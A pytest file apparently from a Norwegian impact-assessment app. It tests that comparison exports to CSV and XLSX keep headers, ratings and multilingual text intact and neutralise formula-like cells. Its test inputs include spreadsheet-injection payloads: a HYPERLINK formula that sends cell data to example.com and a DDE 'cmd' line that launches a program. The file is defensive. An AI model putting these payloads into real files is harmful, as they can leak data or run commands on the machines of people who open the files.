"""CSV and XLSX of the comparison: headers in the UI language, ratings as the UI shows them,
every text as typed, and formula-like text that no spreadsheet will execute."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from impactapp.analysis import comparison_frame, portfolio_aggregates, write_csv, write_xlsx
from impactapp.analysis.cells import csv_safe, looks_like_formula
from impactapp.analysis.export_xlsx import RATING_COLOURS, UNKNOWN_COLOUR
from impactapp.domain.model import Alternative, Assessment, Case, Recommendation

from .cases import ZERO

FORMULAS = (
    '=HYPERLINK("http://example.com/?"&A1,"Klikk her")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A2)",
    "\tTabulator først",
)
PLAIN = (
    "Ráđđehus: Sámi čđŋšŧž",
    "مشروع النقل العام",
    "תחבורה ציבורית",
    "Sykkelvei 🚲🌍",
    'Linje 1\nLinje 2; "sitat", komma',
)


def _titled(title: str) -> Case:
    measure = Alternative(id="a1", name=title, assessments=[
        Assessment("env.climate_mitigation", 2, justification="Mindre trafikk."),
        Assessment("soc.public_health", "unknown", justification="Ukjent."),
        Assessment("env.noise", "not_relevant", justification="Ingen støy."),
    ])
    return Case(title=title, unit=title, alternatives=[ZERO, measure],
                recommendation=Recommendation("a1"))


@pytest.fixture
def texts(store, catalog):
    for title in FORMULAS + PLAIN:
        store.add_case(_titled(title))
    return comparison_frame(store.comparison_rows(), catalog)


def _csv(frame, catalog, lang: str) -> list[list[str]]:
    buffer = io.BytesIO()
    write_csv(frame, buffer, catalog, lang=lang)
    raw = buffer.getvalue()
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel needs to read UTF-8
    text = raw.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if lang == "nb" else ","))


def test_formula_triggers_are_the_owasp_list():
    assert all(looks_like_formula(t) for t in FORMULAS)
    assert not any(looks_like_formula(t) for t in PLAIN)
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("Tittel") == "Tittel"


def test_csv_quotes_formula_like_text_and_keeps_every_other_text(texts, catalog):
    rows = _csv(texts, catalog, "nb")
    header, body = rows[0], rows[1:]
    title, unit, name = (header.index(h) for h in ("Tittel", "Enhet", "Tiltak"))
    assert [r[title] for r in body] == ["'" + t for t in FORMULAS] + list(PLAIN)
    assert [r[unit] for r in body] == [r[title] for r in body]
    assert [r[name] for r in body] == [r[title] for r in body]


def test_csv_speaks_the_ui_language(store, hand_made, catalog):
    frame = comparison_frame(store.comparison_rows(), catalog)
    nb, en = _csv(frame, catalog, "nb"), _csv(frame, catalog, "en")
    assert nb[0][:3] == ["Id", "Tittel", "Saksnr."] and en[0][:3] == ["Id", "Title", "Case no."]
    toll = dict(zip(nb[0], nb[1], strict=True))
    climate = catalog.criteria["env.climate_mitigation"].name.nb
    health = catalog.criteria["soc.public_health"].name.nb
    noise = catalog.criteria["env.noise"].name.nb
    assert (toll[climate], toll[health], toll[noise]) == ("2", "?", "–")
    assert (toll["Status"], toll["Anbefalt"], toll["Planlagt vedtak"]) == (
        "Vedtatt", "Ja", "01.03.2026")
    assert toll["Klimagassutslipp (tonn CO2e per år)"] == "-4200"
    assert toll["Mål 13: Stoppe klimaendringene"] == "positiv"
    english = dict(zip(en[0], en[1], strict=True))
    assert english["Planned decision"] == "2026-03-01" and english["Status"] == "Decided"
    draft = dict(zip(nb[0], nb[3], strict=True))
    assert draft["Tiltak"] == "" and draft["Anbefalt"] == "Nei"


def _workbook(frame, catalog, **kw):
    buffer = io.BytesIO()
    write_xlsx(frame, buffer, catalog, **kw)
    return load_workbook(io.BytesIO(buffer.getvalue()))


def test_xlsx_stores_formula_like_text_as_quoted_strings(texts, catalog):
    sheet = _workbook(texts, catalog)["Sammenligning"]
    header = [c.value for c in sheet[1]]
    column = header.index("Tittel") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, 2 + len(FORMULAS) + len(PLAIN))]
    assert [c.value for c in cells] == list(FORMULAS + PLAIN)
    assert all(c.data_type == "s" for c in cells)
    assert [c.quotePrefix for c in cells[:len(FORMULAS)]] == [True] * len(FORMULAS)
    assert not any(c.quotePrefix for c in cells[len(FORMULAS):])


def test_xlsx_ratings_are_signed_numbers_on_the_palette(store, hand_made, catalog):
    frame = comparison_frame(store.comparison_rows(), catalog)
    sheet = _workbook(frame, catalog)["Sammenligning"]
    header = [c.value for c in sheet[1]]
    climate = header.index(catalog.criteria["env.climate_mitigation"].name.nb) + 1
    health = header.index(catalog.criteria["soc.public_health"].name.nb) + 1
    noise = header.index(catalog.criteria["env.noise"].name.nb) + 1
    assert sheet.cell(row=2, column=climate).value == 2
    assert sheet.cell(row=2, column=climate).data_type == "n"
    assert (sheet.cell(row=2, column=health).value, sheet.cell(row=2, column=noise).value) == (
        "?", "–")
    covering = [rule for rng in sheet.conditional_formatting for rule in rng.rules
                if any(r.min_col <= climate <= r.max_col and r.min_row == 2
                       for r in rng.sqref.ranges)]
    fills = {rule.dxf.fill.bgColor.rgb[-6:] for rule in covering if rule.dxf.fill is not None}
    assert fills == {*RATING_COLOURS, UNKNOWN_COLOUR}
    darkest = [rule for rule in covering
               if rule.dxf.fill is not None and rule.dxf.fill.bgColor.rgb[-6:] == "2166AC"]
    assert darkest[0].dxf.font.color.rgb[-6:] == "FFFFFF"
    assert "+" in darkest[0].dxf.numFmt.formatCode and ">=2.5" in darkest[0].formula[0]


def test_xlsx_has_a_sheet_with_the_portfolio_aggregates(store, hand_made, catalog):
    rows = store.comparison_rows(portfolio=True)
    frame = comparison_frame(rows, catalog, lang="en")
    book = _workbook(frame, catalog, lang="en",
                     aggregates=portfolio_aggregates(rows, catalog, "en"))
    assert book.sheetnames == ["Comparison", "Portfolio"]
    values = [row for row in book["Portfolio"].iter_rows(values_only=True)]
    titles = [row[0] for row in values if row[0] and str(row[0]).startswith("Climate budget")]
    assert titles == ["Climate budget (approved and decided) and the pipeline, apart",
                      "Climate budget: effect by year (approved and decided cases)",
                      "Climate budget: effect by unit (approved and decided cases)"]
    assert (2027, 1, -4200, -4200) in [row[:4] for row in values]
    assert ("030111", "Stovner", 0, 1, -2) in [row[:5] for row in values]


def test_xlsx_replaces_control_characters_it_cannot_store(store, catalog):
    store.add_case(_titled("Tittel\x07med bjelle"))
    frame = comparison_frame(store.comparison_rows(), catalog)
    sheet = _workbook(frame, catalog)["Sammenligning"]
    assert sheet.cell(row=2, column=2).value == "Tittel\ufffdmed bjelle"
